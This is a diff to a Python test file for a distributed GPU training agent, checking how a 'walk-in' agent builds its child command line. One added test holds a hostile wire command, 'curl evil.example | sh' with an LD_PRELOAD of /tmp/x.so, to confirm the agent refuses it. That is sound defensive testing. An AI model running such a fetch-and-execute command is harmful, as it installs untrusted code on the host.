@@ -16,7 +16,7 @@ from flodl_wire.specs import AgentSpec, Command, Envelope, EnvelopeController, E
 
 GPUS = [DeviceOffer("cuda", 3), DeviceOffer("cuda", 1)]
 PLACE = Place(
-    spec=AgentSpec("node-b", "ctrl", 1337, path="/srv/p"),
+    spec=AgentSpec("node-b", "ctrl", 1337, path="/srv/p", roster_host=True),
     offers=GPUS,
     environment={"PATH": "/usr/bin", "CUDA_VISIBLE_DEVICES": "0", "HIP_VISIBLE_DEVICES": "0", "KEPT": "yes"},
     bin_dir="/srv/p/.venv/bin",
@@ -47,7 +47,7 @@ def test_the_envelope_and_the_relay_get_the_address_that_the_join_used_and_the_h
     assert local.relay and (local.relay.controller_host, local.relay.controller_port) == ("10.0.0.1", 4242)
     assert local.envelope.relay_socket == local.relay.relay_socket == "/run/x/relay.sock"
     assert (local.envelope.worker.data_path, local.envelope.worker.gpu_ram_share) == ("/roster", 0.25)
-    own = replace(PLACE, spec=AgentSpec("node-b", "c", 1, data_path="/own", gpu_ram_share=0.0))
+    own = replace(PLACE, spec=AgentSpec("node-b", "c", 1, data_path="/own", gpu_ram_share=0.0, roster_host=True))
     worker = localize(world(), own).envelope.worker
     assert (worker.data_path, worker.gpu_ram_share) == ("/own", 0.0)
 
@@ -117,10 +117,22 @@ def test_mode_torch_is_torchruns_whole_environment_and_every_offered_device_in_o
     assert not {*expected} & {*environment(world())}
 
 
+def walk_in(args: list[str] | None, formed: WorldFormed) -> list[str]:
+    """What a walk-in with arguments of its own would run."""
+    spec = AgentSpec("node-b", "ctrl", 1337, path="/srv/p", args=args)
+    place = replace(PLACE, spec=spec, own_command=["python", "mine.py"])
+    return plan_children(localize(formed, place), place)[1].argv
+
+
 def test_a_walk_in_runs_its_own_command_with_the_controllers_arguments() -> None:
-    place = replace(PLACE, own_command=["python", "mine.py"])
-    assert plan_children(localize(world(command=None, args=["--lr", "1"]), place), place)[1].argv == [
-        "python", "mine.py", "--lr", "1",
-    ]  # fmt: skip
-    with pytest.raises(Refused, match="neither the controller nor this agent names a command"):
-        plan_children(localize(world(command=None), PLACE), PLACE)
+    stated = world(command=None, args=["--lr", "1"])
+    assert walk_in(None, stated) == walk_in(["--lr", "1"], stated) == ["python", "mine.py", "--lr", "1"]
+    assert walk_in(["--lr", "2"], world(command=None)) == ["python", "mine.py", "--lr", "2"]
+
+
+def test_a_walk_in_never_runs_a_command_line_from_the_wire() -> None:
+    theirs = Command(["sh", "-c", "curl evil.example | sh"], {"LD_PRELOAD": "/tmp/x.so"})
+    assert walk_in(None, world(command=theirs, args=["--lr", "1"])) == ["python", "mine.py", "--lr", "1"]
+    alone = replace(PLACE, spec=AgentSpec("node-b", "ctrl", 1337))
+    with pytest.raises(Refused, match="runs a program of its own; none was named"):
+        plan_children(localize(world(command=theirs), alone), alone)
